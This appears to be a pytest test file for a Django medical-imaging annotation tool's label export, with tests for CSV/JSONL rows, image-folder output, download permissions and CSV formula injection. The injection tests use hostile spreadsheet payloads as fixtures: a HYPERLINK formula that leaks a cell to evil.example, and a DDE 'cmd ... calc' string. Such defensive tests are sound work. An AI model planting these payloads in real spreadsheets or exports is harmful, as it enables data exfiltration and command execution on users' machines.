"""Label exports as a training script wants them: CSV / JSON lines rows with the final label,
every reader's answer, agreement and what each was shown; an image folder torchvision reads;
the same as a download; quarantined scans never leave."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command

from annotator import services
from annotator.models import Annotation, LabelClass, Scan
from tests.base import FIXTURES
from tests.conftest import run_import


@pytest.fixture
def read_project(project, users):
    for name in ("no_tumor", "pituitary_tumor"):
        run_import(project, FIXTURES / "brain_mri" / "pool" / name, layout="flat",
                   dataset_name="brain")
        services.label_class_get_or_create(project=project, name=name)
    run_import(project, FIXTURES / "brain_mri" / "eval" / "no_tumor", split="eval",
               default_label="no_tumor", layout="flat")
    classes = {c.name: c for c in LabelClass.objects.filter(project=project)}
    pool = list(project.scans.filter(split="pool").order_by("pk"))
    services.annotation_create(scan=pool[0], reader=users["alice"],
                               label_class=classes["no_tumor"], duration_ms=1200)
    services.annotation_create(scan=pool[1], reader=users["alice"],
                               label_class=classes["no_tumor"])
    services.annotation_create(scan=pool[1], reader=users["dora"],
                               label_class=classes["pituitary_tumor"])
    services.annotation_create(scan=pool[1], reader=users["bob"],
                               label_class=classes["pituitary_tumor"],
                               source=Annotation.Source.ADJUDICATION)
    Scan.objects.filter(pk=pool[2].pk).update(quarantined=True)
    services.annotation_create(scan=pool[2], reader=users["alice"],
                               label_class=classes["no_tumor"])
    project.pool = pool
    return project


def test_csv_and_jsonl_rows(read_project, tmp_path):
    project, pool = read_project, read_project.pool
    call_command("export_labels", "--project", project.name, "--format", "jsonl",
                 "--out", str(tmp_path / "labels.jsonl"))
    rows = {r["scan"]: r for r in map(json.loads,
                                      (tmp_path / "labels.jsonl").read_text().splitlines())}
    assert rows[pool[0].pk]["label"] == "no_tumor" and rows[pool[0].pk]["agreement"] == 1.0
    assert rows[pool[0].pk]["answers"][0]["duration_ms"] == 1200
    disputed = rows[pool[1].pk]
    assert disputed["label"] == "pituitary_tumor" and disputed["adjudicated"] is True
    assert disputed["readers"] == 2 and disputed["agreement"] == 0.5
    assert {a["reader"] for a in disputed["answers"]} == {"alice", "dora", "bob"}
    assert pool[2].pk not in rows                                  # quarantined: never
    evals = [r for r in rows.values() if r["split"] == "eval"]
    assert evals and all(r["label"] == "no_tumor" for r in evals)
    call_command("export_labels", "--project", project.name, "--format", "csv",
                 "--out", str(tmp_path / "labels.csv"), "--split", "pool", "--adjudicated")
    table = list(csv.DictReader(io.StringIO((tmp_path / "labels.csv").read_text())))
    assert [int(r["scan"]) for r in table] == [pool[1].pk]
    assert json.loads(table[0]["answers"])[0]["label"] == "no_tumor"


def test_an_image_folder_torchvision_reads(read_project, tmp_path):
    from torchvision.datasets import ImageFolder

    call_command("export_labels", "--project", read_project.name, "--format", "imagefolder",
                 "--out", str(tmp_path / "images"))
    pool = ImageFolder(str(tmp_path / "images" / "pool"))
    assert pool.classes == ["no_tumor", "pituitary_tumor"] and len(pool) == 2
    image, target = pool[0]
    assert image.size[0] > 0 and pool.classes[target] in ("no_tumor", "pituitary_tumor")
    assert (tmp_path / "images" / "labels.csv").exists()
    with pytest.raises(CommandError, match="not empty"):
        call_command("export_labels", "--project", read_project.name, "--format",
                     "imagefolder", "--out", str(tmp_path / "images"))


def test_the_download_is_for_members_only(read_project, client, users):
    client.force_login(users["alice"])
    url = f"/projects/{read_project.pk}/export/labels/"
    # a reader of a blind-reading project (the default) may not see the other readers'
    # answers, so not the download either; its reviewer may
    refused = client.get(url, {"format": "csv"})
    assert refused.status_code == 403 and b"Blind reading" in refused.content
    client.force_login(users["bob"])
    assert client.get(url, {"format": "csv"}).status_code == 200
    read_project.blind_second_readers = False
    read_project.save()
    client.force_login(users["alice"])
    response = client.get(url, {"format": "csv"})
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    assert response.content.decode().startswith("scan,split,dataset")
    assert client.get(url, {"format": "xml"}).status_code == 400
    client.force_login(users["charlie"])
    assert client.get(url, {"format": "csv"}).status_code == 404


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_csv_cells_never_run_as_spreadsheet_formulas(read_project, client, users):
    """A class or data set named like a formula (any clinician can name one) is written as
    text with a leading quote (OWASP CSV injection); numbers stay numbers."""
    from annotator.models import Dataset

    LabelClass.objects.filter(project=read_project, name="no_tumor").update(name=FORMULA)
    Dataset.objects.filter(project=read_project, name="brain").update(name="@SUM(1+1)")
    Dataset.objects.filter(project=read_project).exclude(name="@SUM(1+1)").update(
        name="\tward -2+3")
    client.force_login(users["bob"])
    response = client.get(f"/projects/{read_project.pk}/export/labels/", {"format": "csv"})
    assert response.status_code == 200
    table = list(csv.DictReader(io.StringIO(response.content.decode())))
    labels = {r["label"] for r in table}
    assert "'" + FORMULA in labels and FORMULA not in labels
    datasets = {r["dataset"] for r in table}
    assert datasets == {"'@SUM(1+1)", "'\tward -2+3"}
    assert not [cell for r in table for cell in r.values()
                if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    disputed = next(r for r in table if int(r["scan"]) == read_project.pool[1].pk)
    assert disputed["agreement"] == "0.5"                            # a number: as it was
    assert json.loads(disputed["answers"])[0]["label"] == FORMULA    # JSON: starts with [


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-3", "-1e-3"), (-0.5, -0.5), (None, None),
    ("no_tumor", "no_tumor"), ("a=b", "a=b"), ("", ""),
])
def test_csv_cell(value, written):
    from annotator.spreadsheet import csv_cell

    assert csv_cell(value) == written


def test_the_audit_csv_neutralises_formulas(db, users):
    from annotator.audit import record, to_csv
    from annotator.models import AuditEvent

    record(action="class.created", obj_type="label_class", obj_id=1,
           actor_name="=cmd|' /C calc'!A0", model_version="-2+3",
           details={"name": FORMULA})
    rows = list(csv.reader(io.StringIO(to_csv(AuditEvent.objects.all()))))
    assert rows[1][1] == "'=cmd|' /C calc'!A0" and rows[1][6] == "'-2+3"
    assert json.loads(rows[1][7]) == {"name": FORMULA}


def test_a_reader_who_answers_twice_counts_once(read_project, users):
    """Two tabs, or a changed mind: the reader's latest answer is their reading; the rows'
    readers and agreement count readers, not answers (every answer stays in ``answers``)."""
    from annotator.exports import label_rows

    project, pool = read_project, read_project.pool
    classes = {c.name: c for c in LabelClass.objects.filter(project=project)}
    services.annotation_create(scan=pool[0], reader=users["alice"],
                               label_class=classes["pituitary_tumor"])
    services.annotation_create(scan=pool[0], reader=users["dora"],
                               label_class=classes["pituitary_tumor"])
    row = {r["scan"]: r for r in label_rows(project)}[pool[0].pk]
    assert len(row["answers"]) == 3
    assert row["readers"] == 2 and row["agreement"] == 1.0
    assert row["label"] == "pituitary_tumor"


def test_classes_whose_folder_names_would_meet_keep_their_own_folders(read_project, users,
                                                                        tmp_path):
    from torchvision.datasets import ImageFolder

    project, pool = read_project, read_project.pool
    slash, _ = services.label_class_get_or_create(project=project, name="a/b")
    colon, _ = services.label_class_get_or_create(project=project, name="a:b")
    services.annotation_create(scan=pool[0], reader=users["dora"], label_class=slash)
    services.annotation_create(scan=pool[0], reader=users["alice"], label_class=slash)
    services.annotation_create(scan=pool[1], reader=users["bob"], label_class=colon,
                               source=Annotation.Source.ADJUDICATION)
    out = tmp_path / "images"
    call_command("export_labels", "--project", project.name, "--format", "imagefolder",
                 "--out", str(out), "--split", "pool")
    folders = sorted(p.name for p in (out / "pool").iterdir())
    assert len(folders) == 2 and all(name.startswith("a_b~") for name in folders)
    mapping = dict(csv.reader(io.StringIO((out / "classes.csv").read_text())))
    assert sorted(mapping.values()) == ["a/b", "a:b", "class"]        # "class": the header
    pool_set = ImageFolder(str(out / "pool"))
    assert {mapping[pool_set.classes[t]] for _, t in pool_set.samples} == {"a/b", "a:b"}
